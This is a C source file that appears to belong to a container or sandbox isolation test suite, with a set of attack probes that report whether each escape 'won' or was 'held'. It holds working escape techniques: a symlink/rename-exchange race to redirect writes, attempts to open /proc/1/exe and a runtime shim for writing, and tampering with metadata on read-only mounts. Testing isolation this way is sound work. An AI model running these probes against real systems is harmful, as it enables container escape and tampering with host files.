// SPDX-License-Identifier: Apache-2.0
// Groups H, I and N where a shell is not enough: what a cell may read, change or lead a tool
// outside to.
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

// ---- N1, N2: a word that lies about somewhere. ARGUMENTS: the word, directories

static const char* word;
static int places;
static char content[1 << 20];
static int LookInto(const char* path, const struct stat* status, int type, struct FTW* where) {
  (void)where;
  (void)status;
  if (type == FTW_D && (strcmp(path, "/sys") == 0 || strcmp(path, "/proc/sys") == 0))
    return FTW_SKIP_SUBTREE;
  if (type != FTW_F) return FTW_CONTINUE;
  const int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) return FTW_CONTINUE;
  size_t size = 0;
  for (ssize_t count = 0;
       size < sizeof content && (count = read(fd, content + size, sizeof content - size)) > 0;)
    size += (size_t)count;
  close(fd);
  const int own = strstr(path, "/cmdline") != NULL;  // the word is an argument of ours
  if (!own && memmem(content, size, word, strlen(word)) != NULL) {
    if (++places <= 10) printf("found in %s\n", path);
  }
  return FTW_CONTINUE;
}
static int Search(char** arguments) {
  word = arguments[0];
  for (char** root = arguments + 1; *root != NULL; ++root)
    (void)nftw(*root, LookInto, 32, FTW_PHYS | FTW_ACTIONRETVAL);
  return places > 0 ? Won("%d places", places) : Held("nowhere");
}
static int SearchByAliases(char** arguments) {  // WORD, absolute file names
  word = arguments[0];
  static const char* const roots[] = {"",
                                      "/proc/self/root",
                                      "/proc/1/root",
                                      "/proc/thread-self/root",
                                      "/proc/self/cwd/../../../../../../..",
                                      "/dev/fd/../root"};
  const struct stat none = {0};
  for (char** file = arguments + 1; *file != NULL; ++file) {
    for (size_t i = 0; i < COUNT(roots); ++i) {
      char path[4200];
      snprintf(path, sizeof path, "%s%s", roots[i], *file);
      LookInto(path, &none, FTW_F, NULL);
    }
  }
  return places > 0 ? Won("%d places", places) : Held("nowhere");
}

// ---- H3: a name that is hidden, by handle and by other routes. ARGUMENTS: the file, its secret

static long Contains(int fd, const char* secret) {
  char buffer[4096] = "";
  if (fd < 0) return -1;
  const ssize_t count = read(fd, buffer, sizeof buffer - 1);
  close(fd);
  return count > 0 && strstr(buffer, secret) != NULL ? 0 : -1;
}
static long Plainly(char** a) {
  return Contains(open(a[0], O_RDONLY | O_CLOEXEC), a[1]);
}
static long ByHandle(char** a) {
  struct {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } place = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, a[0], &place.handle, &mount, 0) != 0) return -1;
  return 0;  // the inode's number and generation are enough to find it elsewhere
}
static long ByHardLink(char** a) {
  if (link(a[0], "hard-link") != 0) return -1;
  return Contains(open("hard-link", O_RDONLY | O_CLOEXEC), a[1]);
}
static long ByRename(char** a) {
  if (rename(a[0], "renamed") != 0) return -1;
  const long result = Contains(open("renamed", O_RDONLY | O_CLOEXEC), a[1]);
  (void)!rename("renamed", a[0]);
  return result;
}
static long ByExchange(char** a) {
  close(open("other", O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
  if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, "other", RENAME_EXCHANGE) != 0) return -1;
  const long result = Contains(open("other", O_RDONLY | O_CLOEXEC), a[1]);
  (void)syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, "other", RENAME_EXCHANGE);
  return result;
}
static long ByRemoval(char** a) {  // what lay under the mask would show
  (void)unlink(a[0]);
  return Contains(open(a[0], O_RDONLY | O_CLOEXEC), a[1]);
}
static int Hidden(char** arguments) {
  static const struct Way ways[] = {{"open", Plainly},         {"handle", ByHandle},
                                    {"hard link", ByHardLink}, {"rename", ByRename},
                                    {"exchange", ByExchange},  {"removal", ByRemoval}};
  return TryWays(ways, COUNT(ways), arguments);
}

// ---- H6: what is not content. ARGUMENT: a file of a read-only tree

static long Mode(char** a) {
  return chmod(a[0], 0777);
}
static long Owner(char** a) {
  return lchown(a[0], getuid(), getgid());
}
static long Times(char** a) {
  const struct timespec times[2] = {{1, 0}, {1, 0}};
  return utimensat(AT_FDCWD, a[0], times, AT_SYMLINK_NOFOLLOW);
}
static long Attribute(char** a) {
  return setxattr(a[0], "user.escape", "x", 1, 0);
}
static long AttributeByDescriptor(char** a) {
  return fsetxattr(open(a[0], O_RDONLY | O_CLOEXEC), "user.escape", "x", 1, 0);
}
static long ModeByDescriptor(char** a) {
  return fchmod(open(a[0], O_RDONLY | O_CLOEXEC), 0777);
}
static long Flags(char** a) {
  const int fd = open(a[0], O_RDONLY | O_CLOEXEC);
  int flags = 0;
  if (ioctl(fd, FS_IOC_GETFLAGS, &flags) != 0) return -1;
  flags ^= FS_NOATIME_FL;
  return ioctl(fd, FS_IOC_SETFLAGS, &flags);
}
static long Truncated(char** a) {
  return truncate(a[0], 1);
}
static long Linked(char** a) {
  char name[4200];
  snprintf(name, sizeof name, "%s-linked", a[0]);
  return link(a[0], name);
}
static long Mapped(char** a) {
  const int fd = open(a[0], O_RDWR | O_CLOEXEC);
  char* page = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (page == MAP_FAILED) return -1;
  page[0] = 'X';
  return 0;
}
static long Reopened(char** a) {
  char name[64];
  snprintf(name, sizeof name, "/proc/self/fd/%d", open(a[0], O_PATH | O_CLOEXEC));
  return open(name, O_RDWR | O_CLOEXEC);
}
static int Metadata(char** arguments) {
  static const struct Way ways[] = {{"chmod", Mode},
                                    {"chown", Owner},
                                    {"utimensat", Times},
                                    {"setxattr", Attribute},
                                    {"fsetxattr", AttributeByDescriptor},
                                    {"fchmod", ModeByDescriptor},
                                    {"flags", Flags},
                                    {"truncate", Truncated},
                                    {"link", Linked},
                                    {"mmap", Mapped},
                                    {"reopen", Reopened}};
  return TryWays(ways, COUNT(ways), arguments);
}

// ---- H2, D3: a directory that is now one, now a link to another place. ARGUMENTS: STOP-FILE NAME
// TARGET WITHIN

static void Nap(void) {
  const struct timespec time = {0, 200000};
  nanosleep(&time, NULL);
}
static int FlipDirectory(char** a) {
  if (symlink(a[2], "flip-link") != 0) return NotTried("%s", ErrorName());
  (void)!mkdir(a[1], 0777);
  close(open("flipping", O_WRONLY | O_CREAT | O_CLOEXEC, 0666));
  long rounds = 0;
  char planted[4200];
  snprintf(planted, sizeof planted, "%s/%s", a[1], a[3]);
  while (access(a[0], F_OK) != 0) {
    // Something to be set aside, and then another place under the same name.
    const int fd = open(planted, O_WRONLY | O_CREAT | O_CLOEXEC | O_NOFOLLOW, 0666);
    if (fd >= 0) close(fd);
    if (rounds % 3 == 0) Nap();
    (void)syscall(SYS_renameat2, AT_FDCWD, a[1], AT_FDCWD, "flip-link", RENAME_EXCHANGE);
    Nap();
    (void)syscall(SYS_renameat2, AT_FDCWD, a[1], AT_FDCWD, "flip-link", RENAME_EXCHANGE);
    ++rounds;
  }
  printf("rounds %ld\n", rounds);
  return 0;
}

// ---- D7: the file that a process runs, opened for writing while it is busy elsewhere

static int WriteImages(char** arguments) {  // TRIES
  int opened = 0;
  for (long i = atol(arguments[0]); i > 0; --i) {
    static const char* const names[] = {"/proc/1/exe", "/run/cellrun/shim", "/proc/self/exe"};
    for (size_t n = 0; n < COUNT(names); ++n) {
      const int fd = open(names[n], O_WRONLY | O_CLOEXEC);
      if (fd >= 0) {
        ++opened;
        close(fd);
      }
      opened += chmod(names[n], 0777) == 0 && n < 2;
    }
    for (int pid = 2; pid < 64; ++pid) {
      char name[64];
      snprintf(name, sizeof name, "/proc/%d/exe", pid);
      const int fd = open(name, O_RDWR | O_CLOEXEC);
      if (fd >= 0) {
        ++opened;
        close(fd);
      }
    }
  }
  return opened > 0 ? Won("%d times", opened) : Held("never");
}
static int WriteImageOf(char** arguments) {  // PID: the same for one whose file is ours
  char name[64];
  snprintf(name, sizeof name, "/proc/%s/exe", arguments[0]);
  return open(name, O_WRONLY | O_CLOEXEC) >= 0 || errno == ETXTBSY ? Won("opened, or only busy")
                                                                   : Held("%s", ErrorName());
}

// ---- H13: a tree that is no fun to walk. ARGUMENT: its depth

static int Deep(char** arguments) {
  long depth = 0;
  for (; depth < atol(arguments[0]); ++depth) {
    if (mkdir("d", 0777) != 0 || chdir("d") != 0) break;
  }
  const int fd = open("sparse", O_WRONLY | O_CREAT | O_CLOEXEC, 0777);
  (void)!ftruncate(fd, 1L << 42);
  printf("depth %ld\n", depth);
  return 0;
}

// ---- N4: how a process dies. ARGUMENTS: nothing

static int Dump(char** unused) {
  (void)unused;
  raise(SIGSEGV);
  return Held("alive");
}

static const struct Attack kAttacks[] = {
    {"search", 2, Search},
    {"search-by-aliases", 2, SearchByAliases},
    {"hidden", 2, Hidden},
    {"metadata", 1, Metadata},
    {"flip-directory", 4, FlipDirectory},
    {"write-images", 1, WriteImages},
    {"write-image-of", 1, WriteImageOf},
    {"deep", 1, Deep},
    {"dump", 0, Dump},
};

int main(int argc, char** argv) {
  return RunAttack(kAttacks, COUNT(kAttacks), argc, argv);
}
